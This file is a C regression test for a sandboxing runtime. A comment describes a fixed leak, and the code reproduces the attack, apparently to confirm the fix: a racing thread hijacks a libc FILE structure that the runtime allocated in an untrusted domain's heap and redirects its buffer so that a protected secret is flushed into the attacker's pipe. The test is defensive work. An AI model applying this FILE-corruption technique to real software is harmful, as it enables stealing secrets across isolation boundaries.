// The runtime's own reads of /proc files, on a domain's thread (an attack
// round's): under `sfi` dlopen makes the loader read /proc/self/maps again
// (its code pins), and it read it through stdio, whose FILE libc took from
// the running domain's heap, `evil`'s, where a chunk evil had just freed
// came back (libc's cache). A second thread of evil waited for the FILE
// to appear there and made it a write stream on evil's pipe, its write
// area over vault's secret: libc's next refill flushed the secret into
// the pipe (stolen within 2 to 21 tries). The runtime reads /proc with
// read(2) into its frame now (rt/procmaps.c): no FILE to take. No control
// under `none`: the loader reads the maps again under `sfi` only.
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t -lpthread -ldl
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t maps-steal 200 2>&1 | FileCheck %s
// CHECK: maps-steal: 200 tries, 0 stolen, 0 refused

#include "Inputs/vault.h"

#include "Inputs/flipper.h"

#include <dlfcn.h>
#include <fcntl.h>
#include <unistd.h>

static FILE *volatile target;
static volatile char *volatile secret_at;
static volatile int pipe_in = -1;
static int watching;

/* Waits for a FILE in the chunk at target, then turns it on evil's pipe
 * with the secret pending. */
static void *watcher(void *arg) {
  (void)arg;
  for (;;) {
    FILE *f = target;
    if (!f)
      continue;
    if ((f->_flags & 0xffff0000) == (int)0xfbad0000 && f->_fileno > 2 &&
        f->_fileno != pipe_in && f->_IO_buf_base && f->_IO_read_end) {
      f->_fileno = pipe_in;
      f->_IO_write_base = (char *)secret_at;
      f->_IO_write_ptr = (char *)secret_at + 15;
      f->_flags = (f->_flags & ~0x8) | 0x800 | 0x1000;
      f->_IO_read_ptr = f->_IO_read_end;
      target = NULL;
    }
  }
  return NULL;
}

long attack(const char *mode, void *aux, const volatile char *secret, int key,
            char *loot) {
  (void)aux, (void)key;
  static int fds[2] = {-1, -1};
  if (strcmp(mode, "maps-steal") != 0)
    return -1;
  secret_at = (volatile char *)secret;
  if (!watching) {
    pthread_t t;
    watching = 1;
    if (pipe2(fds, O_NONBLOCK) || pthread_create(&t, NULL, watcher, NULL))
      return -1;
  }
  pipe_in = dup(fds[1]); /* the runtime's fclose would close it */
  void *p = malloc(472);  /* the size of libc's FILE for fopen */
  free(p);
  target = p;
  void *h = dlopen(NULL, RTLD_NOW);
  target = NULL;
  if (h)
    dlclose(h);
  char got[4096];
  ssize_t n = read(fds[0], got, sizeof got);
  const char *at = n > 0 ? memmem(got, (size_t)n, intact, 15) : NULL;
  if (!at)
    return 0;
  memcpy(loot, at, 15);
  loot[15] = '\0';
  return 1;
}

int main(int argc, char **argv) { return race_main(argc, argv); }
